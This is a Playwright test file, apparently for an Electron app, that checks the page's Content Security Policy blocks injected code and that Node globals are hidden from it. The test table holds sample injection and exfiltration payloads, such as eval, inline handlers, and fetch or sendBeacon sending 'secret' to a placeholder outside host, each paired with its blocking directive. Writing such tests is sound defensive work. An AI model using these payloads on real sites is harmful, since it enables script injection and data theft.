import type { Page } from '@playwright/test'
import { expect } from './app.ts'
import { test } from './elsewhere.ts'

/** What a script that got into the page would try, and the directive that has to stop it. */
const attacks: readonly (readonly [what: string, script: string, directive: string])[] = [
  ['an inline script', `put('script', { textContent: 'window.hit = true' })`, 'script-src-elem'],
  ['a script from elsewhere', `put('script', { src: 'http://ADDRESS/script' })`, 'script-src-elem'],
  [
    'a handler in markup',
    `put('div', { innerHTML: '<b onclick="window.hit = true">' }).firstChild.click()`,
    'script-src-attr',
  ],
  ['eval', `window.hit = eval('true')`, 'script-src'],
  ['a function made of text', `window.hit = new Function('return true')()`, 'script-src'],
  ['a request', `fetch('http://ADDRESS/fetch').catch(() => {})`, 'connect-src'],
  ['a beacon', `navigator.sendBeacon('http://ADDRESS/beacon', 'secret')`, 'connect-src'],
  ['a WebSocket', `new WebSocket('ws://ADDRESS/socket')`, 'connect-src'],
  ['an image', `put('img', { src: 'http://ADDRESS/image' })`, 'img-src'],
  ['a frame', `put('iframe', { src: 'http://ADDRESS/frame' })`, 'frame-src'],
  ['a form', `put('form', { action: 'http://ADDRESS/form' }).submit()`, 'form-action'],
  ['another base', `put('base', { href: 'http://ADDRESS/' })`, 'base-uri'],
]

/** Runs a script in the page and answers the directive that it ran into. */
function directiveAgainst(page: Page, script: string): Promise<string> {
  // In a task of its own: what a debugger evaluates itself is let past the policy.
  return page.evaluate(`new Promise((resolve) => {
    const put = (name, parts) => document.body.appendChild(Object.assign(document.createElement(name), parts))
    const whenBlocked = (event) => resolve(event.effectiveDirective)
    document.addEventListener('securitypolicyviolation', whenBlocked, { once: true })
    setTimeout(() => { ${script} })
  })`)
}

test('the page has nothing of Node', async ({ app: { page } }) => {
  const names = ['require', 'process', 'module', 'Buffer', 'global', '__dirname', 'ipcRenderer', 'electron']
  expect(await page.evaluate((all) => all.filter((name) => name in window), names)).toEqual([])
})

test('the policy of the page stops code from outside, and data on its way there', async ({ app, elsewhere }) => {
  for (const [what, script, directive] of attacks) {
    await test.step(what, async () => {
      const stoppedBy = await directiveAgainst(app.page, script.replaceAll('ADDRESS', elsewhere.address))
      expect(stoppedBy, what).toBe(directive)
    })
  }
  expect(await app.page.evaluate(() => 'hit' in window)).toBe(false)
  expect(elsewhere.asked).toEqual([])
})
